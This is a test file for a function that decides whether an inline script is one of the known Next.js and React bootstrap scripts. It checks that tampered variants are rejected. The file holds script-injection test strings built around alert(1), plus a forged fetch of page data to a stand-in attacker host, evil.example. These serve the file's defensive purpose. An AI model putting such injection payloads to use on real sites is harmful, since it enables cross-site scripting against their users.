import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { describe, expect, test } from 'vitest'
import { HIDE_DISMISSED_BANNER } from '../../lib/banner.ts'
import { WATCH_SCROLLING } from '../../lib/header-scroll.ts'
import { isKnownScript } from './known-scripts.ts'

const KNOWN = {
  'the start of the data': '(self.__next_f=self.__next_f||[]).push([0])',
  'with what a form was answered':
    '(self.__next_f=self.__next_f||[]).push([0]);self.__next_f.push([2,[{"a":"b"},"k",1]])',
  'a piece of data': String.raw`self.__next_f.push([1,"5:[\"$\",\"p\",null,{\"children\":\"\u003cb\u003e ’ \\ \"}]\n"])`,
  'data that are bytes': 'self.__next_f.push([3,"AAEC/+8="])',
  'the files of a page':
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[494553]});',
  'what a page with a variable part asks for':
    "__NEXT_CLIENT_RESUME=fetch(location.pathname+'?_rsc=xhdorIanPcIpYSsE',{credentials:'same-origin',headers:{'rsc': '1','next-router-prefetch': '1','next-router-segment-prefetch': '/_full'}})",
  'the banner’s': HIDE_DISMISSED_BANNER,
  'the header’s': WATCH_SCROLLING,
  'React’s clock': 'requestAnimationFrame(function(){$RT=performance.now()});',
  'a call of React': '$RC("B:1","S:1")',
  'a call of React with a style sheet': '$RR("B:0","S:0",[["/_next/static/a.css","next"]])',
  'what React says of an error': '$RX("B:0","1234567")',
}

for (const [what, text] of Object.entries(KNOWN)) {
  test(`${what} is known`, () => expect(isKnownScript(text)).toBe(true))

  for (const more of [';alert(1)', '\nalert(1)', ',alert(1)', ' alert(1)', '//']) {
    test(`${what} is not, with ${JSON.stringify(more)} after it or before it`, () => {
      expect(isKnownScript(text + more)).toBe(false)
      expect(isKnownScript(more + text)).toBe(false)
    })
  }
}

const UNKNOWN = [
  '',
  'alert(1)',
  'self.__next_f.push([1,alert(1)])',
  'self.__next_f.push([1,"a"+alert(1)+"b"])',
  'self.__next_f.push([1,"a",alert(1),"b"])',
  'self.__next_f.push([1,"a"]);alert("])")',
  'self.__next_f.push([1,"a"]);self.__next_f.push([1,"b"])',
  'self.__next_f.push([1,`a`])',
  'self.__next_f.push([1,"<!--<script>"])',
  '(self.__next_f=self.__next_f||[]).push([0]);self.__next_f.push([2,alert(1)])',
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[alert(1)]});',
  '$RC("B:1",alert(1))',
  '$RC("B:1")||alert("")',
  "__NEXT_CLIENT_RESUME=fetch('//evil.example/?_rsc=a',{credentials:'same-origin',headers:{'rsc': '1','next-router-prefetch': '1','next-router-segment-prefetch': '/_full'}})",
]
for (const text of UNKNOWN) {
  test(`unknown: ${JSON.stringify(text)}`, () => expect(isKnownScript(text)).toBe(false))
}

describe('React’s functions', () => {
  const file = createRequire(import.meta.url).resolve(
    'next/dist/compiled/react-dom/cjs/react-dom-server.node.production.js',
  )
  const source = readFileSync(file, 'utf8')

  /** Each function is a string literal in React's source, which may end with the start of a call. */
  const literal = (start: string) => {
    const at = source.indexOf(`'${start}`) + 1
    expect(at, start).toBeGreaterThan(0)
    return source.slice(at, source.indexOf("'\n", at)).replaceAll('\\n', '\n').replaceAll("\\'", "'")
  }

  test('are known before one or several calls', () => {
    const complete = literal('$RB=[];$RV=')
    expect(isKnownScript(`${complete}$RC("B:0","S:0")`)).toBe(true)
    expect(isKnownScript(`${literal('$RS=')}S:0","P:0")`)).toBe(true)
    const fail = literal('$RX=function')
    expect(isKnownScript(`${fail};$RX("B:0","12")`)).toBe(true)
    expect(isKnownScript(`${fail}${complete}${literal('$RM=new Map')}B:0","S:0",[])`)).toBe(true)
    expect(isKnownScript(`${complete}${literal('$RV=function(B')}$RC("B:0","S:0")`)).toBe(true)
    expect(isKnownScript(literal('addEventListener("submit"'))).toBe(true)
  })

  test('are not known after any change or addition', () => {
    const complete = literal('$RB=[];$RV=')
    expect(isKnownScript(`${complete.replace('removeChild', 'removeChild2')}$RC("B:0","S:0")`)).toBe(false)
    expect(isKnownScript(`${complete}alert(1);$RC("B:0","S:0")`)).toBe(false)
    expect(isKnownScript(`${complete}$RC("B:0","S:0");alert(1)`)).toBe(false)
  })
})
